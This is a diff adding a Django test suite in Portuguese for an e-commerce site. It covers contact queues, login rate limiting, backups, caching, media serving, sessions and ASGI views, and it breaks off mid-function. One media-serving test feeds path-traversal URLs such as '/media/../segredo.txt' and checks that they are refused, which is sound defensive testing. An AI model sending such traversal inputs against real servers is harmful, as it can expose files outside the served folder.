+        User.objects.create_user('equipe', 'equipe@ecocycle.com.br', 'senha-forte-123', is_staff=True)
+
+    def contato(self, i):
+        return Contato(nome=f'Visitante {i}', email=f'v{i}@x.com', mensagem='Olá')
+
+    def notificados(self):
+        return sum(int(email.subject.split()[1]) for email in mail.outbox)
+
+    def test_grava_em_lotes_e_notifica_em_poucos_emails(self):
+        fila = FilaContatos(tamanho=100, lote=10, intervalo_email=60)
+        for i in range(25):
+            self.assertTrue(fila.enviar(self.contato(i)))
+        fila.encerrar()
+        self.assertEqual(Contato.objects.count(), 25)
+        # Primeiro lote avisa na hora; o resto sai num único e-mail ao encerrar
+        self.assertEqual(self.notificados(), 25)
+        self.assertLessEqual(len(mail.outbox), 2)
+        self.assertEqual(mail.outbox[0].to, ['equipe@ecocycle.com.br'])
+
+    def test_fila_cheia_grava_na_requisicao(self):
+        class FilaParada(FilaContatos):
+            def _garantir_thread(self):
+                pass  # ninguém esvazia a fila
+
+        fila = FilaParada(tamanho=1)
+        self.assertTrue(fila.enviar(self.contato(1)))
+        with self.assertLogs('app.contatos', 'WARNING'):
+            self.assertFalse(fila.enviar(self.contato(2)))
+        self.assertEqual(list(Contato.objects.values_list('nome', flat=True)), ['Visitante 2'])
+        self.assertEqual(self.notificados(), 1)
+
+    def test_erro_na_gravacao_vai_para_o_log_e_a_thread_continua(self):
+        fila = FilaContatos(tamanho=100, lote=10, intervalo_email=0)
+        with mock.patch.object(Contato.objects, 'bulk_create', side_effect=ValueError('dado inválido')), \
+                self.assertLogs('app.contatos', 'ERROR') as logs:
+            fila.enviar(self.contato(0))
+            fila.encerrar()
+        # Nenhuma nova tentativa para um erro que não é de lock, e a mensagem fica no log
+        self.assertEqual(len(logs.output), 1)
+        self.assertIn('v0@x.com', logs.output[0])
+
+        # Uma thread que morreu é trocada por outra na próxima mensagem
+        fila._thread = threading.Thread(target=lambda: None)
+        fila._thread.start()
+        fila._thread.join()
+        self.assertTrue(fila.enviar(self.contato(1)))
+        fila.encerrar()
+        self.assertEqual(list(Contato.objects.values_list('nome', flat=True)), ['Visitante 1'])
+
+
+@override_settings(PASSWORD_HASHERS=['django.contrib.auth.hashers.MD5PasswordHasher'])
+class LimitesTest(TestCase):
+    def setUp(self):
+        caches['limites'].clear()
+        self.usuario = User.objects.create_user('maria', password='senha-forte-123')
+
+    def test_login_autentica_uma_vez(self):
+        with mock.patch.object(ModelBackend, 'authenticate', autospec=True, side_effect=ModelBackend.authenticate) as autenticar:
+            resposta = self.client.post(reverse('login'), {'username': 'maria', 'password': 'senha-forte-123'})
+        self.assertRedirects(resposta, reverse('index'), fetch_redirect_response=False)
+        self.assertEqual(autenticar.call_count, 1)
+
+    def test_usuario_bloqueado_recebe_429_sem_tocar_no_banco(self):
+        for _ in range(5):
+            resposta = Client().post(reverse('login'), {'username': 'Maria', 'password': 'errada'})
+            self.assertEqual(resposta.status_code, 200)
+        with self.assertNumQueries(0):
+            # Outro IP, mesmo usuário: vale o balde do usuário
+            resposta = Client(REMOTE_ADDR='10.0.0.9').post(reverse('login'), {'username': 'maria ', 'password': 'x'})
+        self.assertEqual(resposta.status_code, 429)
+        self.assertGreater(int(resposta['Retry-After']), 0)
+        self.assertContains(resposta, 'Muitas tentativas', status_code=429)
+
+    def test_limite_por_ip_so_conta_post(self):
+        for _ in range(5):
+            self.client.post(reverse('cadastro'), {'username': ''})
+        self.assertEqual(self.client.post(reverse('cadastro'), {'username': ''}).status_code, 429)
+        self.assertEqual(self.client.get(reverse('cadastro')).status_code, 200)
+        self.assertEqual(Client(REMOTE_ADDR='10.0.0.9').post(reverse('cadastro'), {'username': ''}).status_code, 200)
+
+
+class BackupTest(TestCase):
+    """Backup online num banco SQLite em arquivo (o dos testes fica em memória)."""
+
+    def setUp(self):
+        pasta = tempfile.TemporaryDirectory()
+        self.addCleanup(pasta.cleanup)
+        self.pasta = Path(pasta.name)
+        self.banco = self.pasta / 'loja.sqlite3'
+        self.backups = self.pasta / 'backups'
+        conexao = sqlite3.connect(self.banco, isolation_level=None)
+        conexao.execute('PRAGMA journal_mode=WAL')
+        conexao.execute('CREATE TABLE estoque (id INTEGER PRIMARY KEY, quantidade INTEGER, texto TEXT)')
+        conexao.executemany(
+            'INSERT INTO estoque (quantidade, texto) VALUES (?, ?)', [(10, os.urandom(400).hex()) for _ in range(3000)]
+        )
+        conexao.close()
+
+    def _executar(self, sql):
+        conexao = sqlite3.connect(self.banco, isolation_level=None)
+        try:
+            return conexao.execute(sql).fetchall()
+        finally:
+            conexao.close()
+
+    def test_copia_termina_com_compras_acontecendo(self):
+        parar = threading.Event()
+
+        def comprar():
+            conexao = sqlite3.connect(self.banco, timeout=30, isolation_level=None)
+            while not parar.is_set():
+                conexao.execute('UPDATE estoque SET quantidade = quantidade - 1 WHERE id = 1')
+            conexao.close()
+
+        comprador = threading.Thread(target=comprar)
+        comprador.start()
+        try:
+            # Sem o retrato fixo, cada UPDATE faria a cópia de 8 páginas por passo recomeçar
+            copia = backup.copiar_online(self.banco, self.pasta / 'copia.sqlite3', paginas=8, pausa=0.001)
+        finally:
+            parar.set()
+            comprador.join()
+        backup.verificar_integridade(self.pasta / 'copia.sqlite3')
+        self.assertEqual(copia.passos, -(-copia.paginas // 8))
+        self.assertIsNotNone(copia.pausa_escritores)
+
+    def test_incremental_so_grava_blocos_alterados_e_restaura(self):
+        primeiro, _, novos, _ = backup.fazer_backup(self.backups, incremental=True, banco=self.banco)
+        self.assertGreater(novos, 1)
+        self._executar('UPDATE estoque SET quantidade = 0 WHERE id = 1')
+        _, _, novos, reaproveitados = backup.fazer_backup(self.backups, incremental=True, banco=self.banco)
+        self.assertLessEqual(novos, 2)
+        self.assertGreater(reaproveitados, 0)
+
+        backup.restaurar(primeiro, self.banco)
+        self.assertEqual(self._executar('SELECT quantidade FROM estoque WHERE id = 1'), [(10,)])
+        self.assertEqual(self._executar('PRAGMA journal_mode'), [('wal',)])
+
+        removidos, blocos = backup.rotacionar(self.backups, manter=1)
+        self.assertEqual(removidos, [primeiro])
+        self.assertGreater(blocos, 0)
+        backup.verificar(backup.listar_backups(self.backups)[-1])
+
+    def test_backup_corrompido_e_recusado(self):
+        arquivo, *_ = backup.fazer_backup(self.backups, banco=self.banco)
+        self.assertTrue(arquivo.name.endswith('.sqlite3.gz'))
+        arquivo.write_bytes(arquivo.read_bytes()[:2000])
+        with self.assertRaises(backup.BackupInvalido):
+            backup.verificar(arquivo)
+        with self.assertRaises(backup.BackupInvalido):
+            backup.restaurar(arquivo, self.banco)
+        self.assertEqual(self._executar('SELECT COUNT(*) FROM estoque'), [(3000,)])
+
+
+class InicializacaoTest(TestCase):
+    """Partida do gunicorn: migrate só quando as migrações mudam e aquecimento."""
+
+    def test_migra_so_quando_a_impressao_muda(self):
+        esquecer_impressao()
+        with mock.patch('django.core.management.call_command') as migrate:
+            self.assertTrue(migrar_se_preciso())
+            self.assertFalse(migrar_se_preciso())
+            self.assertEqual(migrate.call_count, 1)
+
+            # Um migrate feito por fora (talvez parcial) obriga a conferir de novo
+            config = apps.get_app_config('app')
+            post_migrate.send(
+                sender=config, app_config=config, verbosity=0, interactive=False,
+                using='default', apps=apps, plan=[],
+            )
+            self.assertTrue(migrar_se_preciso())
+            self.assertEqual(migrate.call_count, 2)
+
+    def test_aquecer_carrega_tudo_sem_requisicao(self):
+        limpar_caches()
+        Pagina.objects.create(
+            nome_do_site='EcoCycle', texto_chamada='x', texto_sobre='x', endereco='x',
+            email='contato@x.com', whatsapp='0',
+        )
+        with tempfile.TemporaryDirectory() as pasta, override_settings(MEDIA_ROOT=pasta):
+            Image.new('RGB', (400, 300), 'green').save(os.path.join(pasta, 'foto.jpg'))
+            Produto.objects.create(nome='Notebook', estoque=1, preco=Decimal('10.00'), descricao='x', foto='foto.jpg')
+            imagens._preparadas.discard('foto.jpg')
+            self.addCleanup(imagens._preparadas.discard, 'foto.jpg')
+
+            requisicoes = mock.Mock()
+            request_started.connect(requisicoes)
+            self.addCleanup(request_started.disconnect, requisicoes)
+            tempos = aquecer()
+
+            self.assertEqual(set(tempos), {'urls', 'templates', 'dados'})
+            # Nenhuma requisição passou pelo Django (sinais, threads do asgiref)
+            requisicoes.assert_not_called()
+            self.assertIn('foto.jpg', imagens._preparadas)
+            self.assertTrue(list(Path(pasta, imagens.PASTA_VARIANTES).glob('foto-*w.*')))
+        with self.assertNumQueries(0):
+            self.assertEqual(obter_site_config().nome_do_site, 'EcoCycle')
+
+
+class InvalidacaoCacheTest(TestCase):
+    def setUp(self):
+        limpar_caches()
+
+    def test_sinais_invalidam_so_depois_do_commit(self):
+        carimbos = (CARIMBO_SITE_CONFIG, CARIMBO_PAGINAS, CARIMBO_USUARIOS)
+        antes = [_ler_carimbo(carimbo) for carimbo in carimbos]
+        with self.captureOnCommitCallbacks(execute=True):
+            Pagina.objects.create(
+                nome_do_site='EcoCycle', texto_chamada='x', texto_sobre='x', endereco='x',
+                email='contato@x.com', whatsapp='0',
+            )
+            User.objects.create_user('rui')
+            # Antes do commit, um worker que recarregasse o cache leria os dados antigos
+            self.assertEqual([_ler_carimbo(carimbo) for carimbo in carimbos], antes)
+        depois = [_ler_carimbo(carimbo) for carimbo in carimbos]
+        self.assertTrue(all(novo > velho for novo, velho in zip(depois, antes)), (antes, depois))
+
+
+class InstrumentacaoTest(TestCase):
+    def setUp(self):
+        limpar_caches()
+        self.produto = Produto.objects.create(nome='Notebook', estoque=3, preco=Decimal('10.00'), descricao='x')
+        self.url = reverse('api_produto', args=[self.produto.pk])
+
+    def test_server_timing_conta_as_consultas_da_requisicao(self):
+        with CaptureQueriesContext(connection) as consultas:
+            resposta = self.client.get(self.url)
+        partes = dict(parte.split(';', 1) for parte in resposta['Server-Timing'].split(', '))
+        self.assertEqual(set(partes), {'db', 'total'})
+        self.assertIn(f'desc="{len(consultas)} consultas"', partes['db'])
+        self.assertEqual(len(consultas), 1)
+
+    def test_requisicao_lenta_vai_para_o_log(self):
+        with mock.patch.object(instrumentacao, 'SLOW_REQUEST_MS', 0), \
+                self.assertLogs('app.requisicoes_lentas', 'WARNING') as logs:
+            self.client.get(self.url)
+        registro = json.loads(logs.records[0].getMessage())
+        self.assertEqual(
+            (registro['evento'], registro['view'], registro['status'], registro['consultas']),
+            ('requisicao_lenta', 'api_produto', 200, 1),
+        )
+
+    def test_resumo_junta_os_workers_em_percentis(self):
+        with tempfile.TemporaryDirectory() as pasta, override_settings(METRICAS_DIR=pasta), \
+                mock.patch.object(instrumentacao, 'resumo', instrumentacao.ResumoPorView()):
+            # Outro worker, que gravou o seu arquivo
+            Path(pasta, 'metricas-1.json').write_text(json.dumps({'index': list(range(51, 101))}))
+            for duracao in range(1, 51):
+                instrumentacao.resumo.adicionar('index', duracao)
+            self.assertEqual(
+                instrumentacao.ler_resumo(), {'index': {'n': 100, 'p50': 50, 'p95': 95, 'p99': 99, 'max': 100}},
+            )
+
+    def test_resumo_apaga_arquivos_de_workers_encerrados_e_nao_grava(self):
+        with tempfile.TemporaryDirectory() as pasta, override_settings(METRICAS_DIR=pasta), \
+                mock.patch.object(instrumentacao, 'resumo', instrumentacao.ResumoPorView()):
+            # Worker reciclado: o processo já terminou
+            morto = subprocess.Popen([sys.executable, '-c', ''])
+            morto.wait()
+            Path(pasta, f'metricas-{morto.pid}.json').write_text(json.dumps({'index': [1000]}))
+            # Worker vivo, mas parado há mais que a janela
+            velho = Path(pasta, 'metricas-1.json')
+            velho.write_text(json.dumps({'index': [2000]}))
+            antes = time.time() - instrumentacao.METRICAS_VALIDADE - 60
+            os.utime(velho, (antes, antes))
+            Path(pasta, f'metricas-{os.getppid()}.json').write_text(json.dumps({'index': [10]}))
+
+            saida = io.StringIO()
+            call_command('metricas', stdout=saida)
+            self.assertIn('index', saida.getvalue())
+            self.assertEqual(instrumentacao.ler_resumo()['index']['max'], 10)
+            # Sobra só o do worker vivo; a leitura não grava o arquivo deste processo
+            self.assertEqual(os.listdir(pasta), [f'metricas-{os.getppid()}.json'])
+
+
+class VariantesImagemTest(TestCase):
+    def test_gera_so_as_variantes_que_faltam_ou_ficaram_velhas(self):
+        with tempfile.TemporaryDirectory() as pasta, override_settings(MEDIA_ROOT=pasta):
+            os.makedirs(os.path.join(pasta, 'produtos'))
+            original = os.path.join(pasta, 'produtos', 'foto.jpg')
+            Image.new('RGB', (700, 400), 'red').save(original)
+            largura, variantes = imagens.gerar_variantes('produtos/foto.jpg')
+            self.assertEqual(largura, 700)
+            self.assertEqual([variante[:2] for variante in variantes], [
+                (160, 'webp'), (160, 'jpg'), (320, 'webp'), (320, 'jpg'), (640, 'webp'), (640, 'jpg'),
+            ])
+
+            def gerar():
+                with mock.patch.object(imagens.ImageOps, 'exif_transpose', wraps=ImageOps.exif_transpose) as decodificou, \
+                        mock.patch.object(imagens, '_salvar_atomico', wraps=imagens._salvar_atomico) as salvas:
+                    self.assertEqual(imagens.gerar_variantes('produtos/foto.jpg'), (largura, variantes))
+                return decodificou.call_count, [chamada.args[1] for chamada in salvas.call_args_list]
+
+            # Tudo pronto: a original nem é decodificada
+            self.assertEqual(gerar(), (0, []))
+            # Só a variante apagada é refeita
+            os.remove(os.path.join(pasta, variantes[2][2]))
+            self.assertEqual(gerar(), (1, [variantes[2][2]]))
+            # Original substituída (mais nova que as variantes): todas são refeitas
+            futuro = time.time_ns() + 10**9
+            os.utime(original, ns=(futuro, futuro))
+            self.assertEqual(gerar(), (1, [variante[2] for variante in variantes]))
+
+    def test_falha_nao_fica_em_cache(self):
+        imagens._variantes.cache_clear()
+        imagens._preparadas.discard('foto.jpg')
+        self.addCleanup(imagens._variantes.cache_clear)
+        self.addCleanup(imagens._preparadas.discard, 'foto.jpg')
+        with tempfile.TemporaryDirectory() as pasta, override_settings(MEDIA_ROOT=pasta):
+            # Upload ainda sendo gravado: o arquivo não é uma imagem válida
+            caminho = os.path.join(pasta, 'foto.jpg')
+            Path(caminho).write_bytes(b'\xff\xd8\xff')
+            with self.assertLogs('app.imagens', 'WARNING'):
+                self.assertEqual(imagens.variantes_de('foto.jpg'), (None, ()))
+                imagens.preparar_imagens(['foto.jpg'])
+            self.assertNotIn('foto.jpg', imagens._preparadas)
+
+            Image.new('RGB', (400, 300), 'green').save(caminho)
+            largura, variantes = imagens.variantes_de('foto.jpg')
+            self.assertEqual((largura, len(variantes)), (400, 4))
+            imagens.preparar_imagens(['foto.jpg'])
+            self.assertIn('foto.jpg', imagens._preparadas)
+
+
+class ServirMidiaTest(TestCase):
+    """app/media.servir_midia: 304, Range, versões com hash e caminhos inválidos."""
+
+    def setUp(self):
+        raiz = tempfile.mkdtemp()
+        self.addCleanup(shutil.rmtree, raiz)
+        # Um arquivo ao lado da pasta de mídia, que nenhuma URL pode alcançar
+        Path(raiz, 'segredo.txt').write_text('senha')
+        pasta = os.path.join(raiz, 'media')
+        midia = override_settings(MEDIA_ROOT=pasta)
+        midia.enable()
+        self.addCleanup(midia.disable)
+        os.makedirs(os.path.join(pasta, 'produtos'))
+        self.conteudo = bytes(range(256)) * 4
+        Path(pasta, 'produtos', 'foto.jpg').write_bytes(self.conteudo)
+        self.url = '/media/produtos/foto.jpg'
+
+    def test_if_none_match_responde_304(self):
+        etag = self.client.get(self.url)['ETag']
+        resposta = self.client.get(self.url, headers={'If-None-Match': etag})
+        self.assertEqual(resposta.status_code, 304)
+        self.assertEqual(resposta.content, b'')
+        self.assertEqual(resposta['ETag'], etag)
+
+    def test_range_devolve_so_o_trecho(self):
+        resposta = self.client.get(self.url, headers={'Range': 'bytes=0-9'})
+        self.assertEqual(resposta.status_code, 206)
+        self.assertEqual(resposta['Content-Range'], f'bytes 0-9/{len(self.conteudo)}')
+        self.assertEqual(b''.join(resposta.streaming_content), self.conteudo[:10])
+
+    def test_range_fora_do_arquivo_responde_416(self):
+        resposta = self.client.get(self.url, headers={'Range': f'bytes={len(self.conteudo)}-'})
+        self.assertEqual(resposta.status_code, 416)
+        self.assertEqual(resposta['Content-Range'], f'bytes */{len(self.conteudo)}')
+
+    def test_caminho_fora_da_pasta_de_midia_e_404(self):
+        for caminho in ('/media/../segredo.txt', '/media/%2e%2e/segredo.txt', '/media/produtos/../../segredo.txt'):
+            self.assertEqual(self.client.get(caminho).status_code, 404, caminho)
+
+    def test_url_versionada_e_imutavel_e_hash_velho_nao(self):
+        url = media.url_versionada('produtos/foto.jpg')
+        self.assertNotEqual(url, self.url)
+        resposta = self.client.get(url)
+        self.assertEqual(b''.join(resposta.streaming_content), self.conteudo)
+        self.assertIn('immutable', resposta['Cache-Control'])
+
+        resposta = self.client.get('/media/produtos/foto.000000000000.jpg')
+        self.assertEqual(resposta.status_code, 200)
+        self.assertNotIn('immutable', resposta['Cache-Control'])
+
+    def test_head_sem_corpo(self):
+        resposta = self.client.head(self.url)
+        self.assertEqual(resposta.status_code, 200)
+        self.assertEqual(resposta['Content-Length'], str(len(self.conteudo)))
+        self.assertEqual(b''.join(resposta.streaming_content), b'')
+
+
+class SeparacaoDeSessoesTest(TestCase):
+    """SeparateAdminAuthMiddleware: sessões do admin e do site não se misturam."""
+
+    def setUp(self):
+        limpar_caches()
+        self.admin = User.objects.create_superuser('admin', 'admin@x.com', 'senha-admin-123')
+        self.client.force_login(self.admin)
+        sessao = self.client.session
+        sessao['auth_type'] = 'admin'
+        sessao.save()
+
+    def test_midia_e_estaticos_nao_derrubam_a_sessao_do_admin(self):
+        with tempfile.TemporaryDirectory() as pasta, override_settings(MEDIA_ROOT=pasta):
+            Path(pasta, 'foto.jpg').write_bytes(b'x' * 10)
+            self.assertEqual(self.client.get('/media/foto.jpg').status_code, 200)
+        self.client.get('/static/css/index.css')
+        self.assertEqual(self.client.get(reverse('admin:index')).status_code, 200)
+
+    def test_pagina_do_site_desloga_o_admin(self):
+        self.client.get(reverse('index'))
+        self.assertNotIn('_auth_user_id', self.client.session)
+        resposta = self.client.get(reverse('admin:index'))
+        self.assertRedirects(resposta, f"{reverse('admin:login')}?next={reverse('admin:index')}",
+                             fetch_redirect_response=False)
+
+
+class CachePaginaAnonimaTest(TestCase):
+    def setUp(self):
+        limpar_caches()
+        Pagina.objects.create(
+            nome_do_site='EcoCycle', texto_chamada='x', texto_sobre='x', endereco='x',
+            email='contato@x.com', whatsapp='0',
+        )
+        self.produto = Produto.objects.create(nome='Notebook', estoque=3, preco=Decimal('10.00'), descricao='x')
+
+    def test_produto_alterado_invalida_depois_do_commit(self):
+        self.assertEqual(self.client.get(reverse('index'))['X-Page-Cache'], 'MISS')
+        with self.captureOnCommitCallbacks(execute=True):
+            self.produto.nome = 'Notebook Gamer'
+            self.produto.save()
+            self.assertEqual(self.client.get(reverse('index'))['X-Page-Cache'], 'HIT')
+        resposta = self.client.get(reverse('index'))
+        self.assertEqual(resposta['X-Page-Cache'], 'MISS')
+        self.assertContains(resposta, 'Notebook Gamer')
+
+    def test_pagina_em_cache_tem_token_csrf_de_cada_visitante(self):
+        tokens = []
+        for estado in ('MISS', 'HIT'):
+            cliente = Client(enforce_csrf_checks=True)
+            resposta = cliente.get(reverse('index'))
+            self.assertEqual(resposta['X-Page-Cache'], estado)
+            self.assertNotContains(resposta, CSRF_MARCADOR)
+            token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', resposta.content.decode())[1]
+            tokens.append(token)
+            # O token servido com a página em cache vale para o cookie deste visitante
+            self.assertNotEqual(cliente.post(reverse('index'), {'csrfmiddlewaretoken': token}).status_code, 403)
+            self.assertEqual(cliente.post(reverse('index'), {'csrfmiddlewaretoken': 'x' * 64}).status_code, 403)
+        self.assertNotEqual(*tokens)
+
+    def test_usuario_logado_nunca_recebe_a_pagina_anonima(self):
+        self.assertEqual(self.client.get(reverse('index'))['X-Page-Cache'], 'MISS')
+        self.assertEqual(self.client.get(reverse('index'))['X-Page-Cache'], 'HIT')
+        self.client.force_login(User.objects.create_user('lia'))
+        resposta = self.client.get(reverse('index'))
+        self.assertNotIn('X-Page-Cache', resposta)
+        self.assertContains(resposta, '<span>lia</span>', html=True)
+
+
+VIEWS_DE_LEITURA = (('index', []), ('buscar', []), ('perfil', []), ('api_produtos', []), ('api_produto', [1]))
+
+
+class ModoWsgiTest(TestCase):
+    def test_views_de_leitura_sao_sincronas(self):
+        # No WSGI (padrão) uma view async iria e voltaria entre threads a cada consulta
+        for nome, args in VIEWS_DE_LEITURA:
+            self.assertFalse(iscoroutinefunction(resolve(reverse(nome, args=args)).func), nome)
+
+
+def recarregar_urls():
+    """Reimporta o URLconf: as views de leitura dependem de settings.ASGI_MODE."""
+    importlib.reload(sys.modules[settings.ROOT_URLCONF])
+    clear_url_caches()
+
+
+class AsgiTest(TestCase):
+    """Views async e middlewares pelo handler ASGI (AsyncClient), como no uvicorn."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        # Registrada antes: roda depois que o ASGI_MODE volta ao normal
+        cls.addClassCleanup(recarregar_urls)
+        cls.enterClassContext(override_settings(ASGI_MODE=True))
+        recarregar_urls()
+
+    def test_urls_do_modo_asgi_apontam_para_as_views_async(self):
+        for nome, args in VIEWS_DE_LEITURA:
+            self.assertTrue(iscoroutinefunction(resolve(reverse(nome, args=args)).func), nome)
+
+    def setUp(self):
+        limpar_caches()
+        self.usuario = User.objects.create_user('bruna')
+        Produto.objects.create(nome='Notebook', estoque=3, preco=Decimal('10.00'), descricao='x')
+
+    async def test_views_de_leitura_e_instrumentacao(self):
+        resposta = await self.async_client.get(reverse('index'))
+        self.assertEqual(resposta.status_code, 200)
+        self.assertEqual(resposta['X-Page-Cache'], 'MISS')
+        # Consultas feitas nas threads do ORM async chegam ao Server-Timing
+        self.assertIn('desc="2 consultas"', resposta['Server-Timing'])
+
+        resposta = await self.async_client.get(reverse('api_produtos'))
+        self.assertEqual(resposta.json()['produtos'][0]['nome'], 'Notebook')
+
+        await self.async_client.aforce_login(self.usuario)
+        resposta = await self.async_client.get(reverse('perfil'))
+        self.assertContains(resposta, 'Olá, bruna!')
+
+    async def test_sessao_do_site_nao_entra_no_admin(self):
+        await self.async_client.aforce_login(self.usuario)
+        sessao = await self.async_client.asession()
+        await sessao.aset('auth_type', 'site')
+        await sessao.asave()
+        await self.async_client.get(reverse('admin:index'))
+        resposta = await self.async_client.get(reverse('perfil'))
+        self.assertRedirects(resposta, f"{reverse('login')}?next={reverse('perfil')}", fetch_redirect_response=False)
+
+    async def test_imagens_sao_preparadas_fora_do_event_loop(self):
+        no_loop = []
+
+        def hash_conteudo(*args):
+            # Só conta quando o arquivo foi lido de fato (não estava no lru_cache)
+            lidos = original.cache_info().misses
+            resultado = original(*args)
+            try:
+                asyncio.get_running_loop()
+            except RuntimeError:
+                return resultado
+            if original.cache_info().misses > lidos:
+                no_loop.append(args[0])
+            return resultado
+
+        original = media._hash_conteudo
+        original.cache_clear()
+        with tempfile.TemporaryDirectory() as pasta, override_settings(MEDIA_ROOT=pasta), \
+                mock.patch.object(media, '_hash_conteudo', hash_conteudo):
+            os.makedirs(os.path.join(pasta, 'produtos'))
+            Image.new('RGB', (400, 300), 'green').save(os.path.join(pasta, 'produtos', 'foto.jpg'))
+            await Produto.objects.filter(nome='Notebook').aupdate(foto='produtos/foto.jpg')
+            await Pagina.objects.acreate(
+                nome_do_site='EcoCycle', texto_chamada='x', texto_sobre='x', endereco='x',
+                email='contato@x.com', whatsapp='0',
+            )
+            imagens._variantes.cache_clear()
+            imagens._preparadas.clear()
+
+            resposta = await self.async_client.get(reverse('index'))
+            self.assertContains(resposta, '/media/variantes/produtos/foto-320w.')
+            resposta = await self.async_client.get(reverse('api_produtos'))
+            self.assertIn('/media/produtos/foto.', resposta.json()['produtos'][0]['foto'])
+            self.assertEqual(no_loop, [])
+            imagens._variantes.cache_clear()
+            imagens._preparadas.clear()
+
+    async def test_midia_sai_em_blocos_async(self):
+        with tempfile.TemporaryDirectory() as pasta, override_settings(MEDIA_ROOT=pasta):
+            with open(os.path.join(pasta, 'foto.jpg'), 'wb') as arquivo:
+                arquivo.write(b'x' * 200_000)
+            resposta = await self.async_client.get('/media/foto.jpg')
+            self.assertTrue(resposta.is_async)
+            self.assertEqual(resposta['Content-Length'], '200000')
+            self.assertEqual(len(b''.join([bloco async for bloco in resposta.streaming_content])), 200_000)
+
+
+@override_settings(PASSWORD_HASHERS=['django.contrib.auth.hashers.MD5PasswordHasher'])
+class SessoesTest(TestCase):
+    def setUp(self):
+        limpar_caches()
+        self.usuario = User.objects.create_user('joana', password='senha-forte-123')
+        self.client.force_login(self.usuario)
+
+    def test_sessao_e_usuario_vem_do_cache(self):
+        url = reverse('perfil')
+        self.client.get(url)
+        with CaptureQueriesContext(connection) as quente:
+            self.client.get(url)
+        caches['sessoes'].clear()
+        with CaptureQueriesContext(connection) as frio:
+            self.client.get(url)
+        tabelas = ' '.join(consulta['sql'] for consulta in quente)
+        self.assertNotIn('django_session', tabelas)
+        self.assertNotIn('auth_user', tabelas)
+        self.assertEqual(len(frio) - len(quente), 2)
+
+    def test_troca_de_senha_invalida_o_usuario_em_cache(self):
+        self.assertEqual(self.client.get(reverse('perfil')).status_code, 200)
+        self.usuario.set_password('outra-senha-456')
+        with self.captureOnCommitCallbacks(execute=True):
+            self.usuario.save()
+        # O hash da senha no usuário recarregado não bate mais com o da sessão
+        self.assertRedirects(self.client.get(reverse('perfil')), f"{reverse('login')}?next={reverse('perfil')}")
+
+    def test_remover_permissao_vale_na_proxima_requisicao(self):
+        permissao = Permission.objects.get(codename='view_produto')
+        equipe = User.objects.create_user('estoque', password='senha-forte-123', is_staff=True)
+        equipe.user_permissions.add(permissao)
+        cliente = Client()
+        cliente.force_login(equipe)
+        sessao = cliente.session
+        sessao['auth_type'] = 'admin'
+        sessao.save()
+        url = reverse('admin:app_produto_changelist')
+        self.assertEqual(cliente.get(url).status_code, 200)
+
+        # O User em cache não passa pelo save ao perder a permissão: o m2m_changed invalida
+        carimbo = _ler_carimbo(CARIMBO_USUARIOS)
+        with self.captureOnCommitCallbacks(execute=True):
+            equipe.user_permissions.remove(permissao)
+        self.assertNotEqual(_ler_carimbo(CARIMBO_USUARIOS), carimbo)
+        self.assertEqual(cliente.get(url).status_code, 403)
+
+        # Permissões que vêm de um grupo também
+        grupo = Group.objects.create(name='Estoque')
+        for alterar in (lambda: grupo.permissions.add(permissao), lambda: equipe.groups.add(grupo)):
+            carimbo = _ler_carimbo(CARIMBO_USUARIOS)
+            with self.captureOnCommitCallbacks(execute=True):
+                alterar()
+            self.assertNotEqual(_ler_carimbo(CARIMBO_USUARIOS), carimbo)
+        self.assertEqual(cliente.get(url).status_code, 200)
+
+    def test_login_nao_invalida_os_usuarios_em_cache(self):
+        carimbo = _ler_carimbo(CARIMBO_USUARIOS)
+        with self.captureOnCommitCallbacks(execute=True) as callbacks:
+            resposta = Client().post(reverse('login'), {'username': 'joana', 'password': 'senha-forte-123'})
+        self.assertRedirects(resposta, reverse('index'), fetch_redirect_response=False)
+        self.assertEqual(callbacks, [])
+        self.assertEqual(_ler_carimbo(CARIMBO_USUARIOS), carimbo)
+
+    @override_settings(SESSION_ENGINE='django.contrib.sessions.backends.signed_cookies')
+    def test_sessao_em_cookie_assinado_nao_usa_a_tabela(self):
+        cliente = Client()
+        resposta = cliente.post(reverse('login'), {'username': 'joana', 'password': 'senha-forte-123'})
+        self.assertRedirects(resposta, reverse('index'), fetch_redirect_response=False)
+        with CaptureQueriesContext(connection) as consultas:
+            self.assertEqual(cliente.get(reverse('perfil')).status_code, 200)
+        self.assertNotIn('django_session', ' '.join(consulta['sql'] for consulta in consultas))
+        self.assertEqual(cliente.session['auth_type'], 'site')
+
+    def test_limpeza_apaga_so_as_vencidas_em_lotes(self):
+        vencida = timezone.now() - timedelta(days=1)
+        Session.objects.bulk_create(
+            Session(session_key=f'vencida{i}', session_data='', expire_date=vencida) for i in range(5)
+        )
+        saida = io.StringIO()
+        call_command('limpar_sessoes', lote=2, pausa=0, stdout=saida)
+        self.assertIn('5 sessões vencidas apagadas', saida.getvalue())
+        # Só sobra a sessão válida do login
+        self.assertEqual(Session.objects.count(), 1)
+        self.assertEqual(self.client.get(reverse('perfil')).status_code, 200)
+
+
+# ---------------------------------------------------------------------------
+# Orçamento de consultas por view
+# ---------------------------------------------------------------------------
+
+# Máximo de consultas ao banco por requisição, medido com o cache frio
+# (configuração do site e cache de páginas vazios). O número não pode
+# depender da quantidade de produtos ou pedidos no banco.
+ORCAMENTO_CONSULTAS = {
+    ('index', 'GET'): 2,
+    ('perfil', 'GET'): 5,
+    # GET: a reserva da unidade (app/reservas.py) é um INSERT mais o DELETE
+    # limitado das vencidas; POST e finalizar_carrinho: um DELETE da
+    # reserva convertida em pedido
+    ('comprar', 'GET'): 6,
+    ('comprar', 'POST'): 10,
+    ('carrinho', 'GET'): 4,
+    ('finalizar_carrinho', 'POST'): 13,
+    ('buscar', 'GET'): 2,
+    ('api_produtos', 'GET'): 2,
+    ('api_produto', 'GET'): 1,
+    ('cadastro', 'GET'): 1,
+    ('site_login', 'GET'): 1,
+    ('site_login', 'POST'): 9,
+    ('admin_login', 'GET'): 1,
+    ('admin_login', 'POST'): 9,
+}
+
+PASTA_APP = os.path.dirname(os.path.abspath(__file__))
+
+
+def origem_da_consulta():
+    """
+    Onde a consulta foi disparada: a tag/variável de template mais interna
+    na pilha (arquivo e linha) ou, fora de templates, a linha do código do app.
+    """
+    quadro = sys._getframe(1)
+    codigo = None
+    while quadro is not None:
+        # type() e não isinstance(): isinstance avaliaria objetos preguiçosos
+        # (request.user), disparando outra consulta aqui dentro
+        no = quadro.f_locals.get('self')
+        if issubclass(type(no), Node) and getattr(no, 'token', None) is not None:
+            return f'{no.origin.template_name}, linha {no.token.lineno}: {no.token.contents}'
